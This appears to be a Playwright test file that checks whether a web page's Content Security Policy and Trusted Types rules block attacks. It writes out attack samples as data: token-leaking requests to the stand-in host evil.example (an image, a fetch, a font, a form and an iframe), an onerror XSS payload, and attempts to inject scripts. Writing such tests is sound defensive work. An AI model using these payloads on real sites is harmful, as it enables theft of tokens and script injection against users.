import { expect, type Page, test } from './page';

// What code on the page can't do, although it runs there (docs/adr/0072).

const FOREIGN = 'https://evil.example';

/** The directive that stops each way out of the page. */
const STOPPED = {
  'img-src': "new Image().src = 'https://evil.example/a.png?token'",
  'connect-src': "fetch('https://evil.example/?token').catch(() => {})",
  'font-src': "new FontFace('x', 'url(https://evil.example/a.woff2)').load().catch(() => {})",
  'form-action':
    "document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/' })); document.forms[document.forms.length - 1].submit()",
  'frame-src':
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
};

/** What throws at once. */
const REFUSED = {
  markup: "document.body.innerHTML += '<img src=x onerror=alert(1)>'",
  'a script of another origin': "document.createElement('script').src = 'https://evil.example/a.js'",
  'a script of a picture folder': "document.createElement('script').src = '/media/x.js'",
  'a script as text':
    "document.head.append(Object.assign(document.createElement('script'), { text: 'ran = true' }))",
  'a second policy': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
};

test('the policy stops foreign code and ways out of the page', async ({ visitor, pageErrors }) => {
  pageErrors.expect(/Content Security Policy|content security policy|Trusted|Refused|evil\.example/i);
  const { page } = visitor;
  const asked: string[] = [];
  await page.route(`${FOREIGN}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await visitor.isGuest();
  await visitor.opens('/home');
  for (const [directive, attempt] of Object.entries(STOPPED))
    expect(await stoppedBy(page, attempt), directive).toBe(directive);
  for (const [name, attempt] of Object.entries(REFUSED))
    await expect(page.evaluate(attempt), name).rejects.toThrow();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(asked).toEqual([]);
});

/** The directive of the violation that an attempt causes. */
async function stoppedBy(page: Page, attempt: string): Promise<string> {
  return page.evaluate(`new Promise((resolve) => {
    const seen = ({ effectiveDirective }) => resolve(effectiveDirective);
    document.addEventListener('securitypolicyviolation', seen, { once: true });
    ${attempt};
  })`);
}
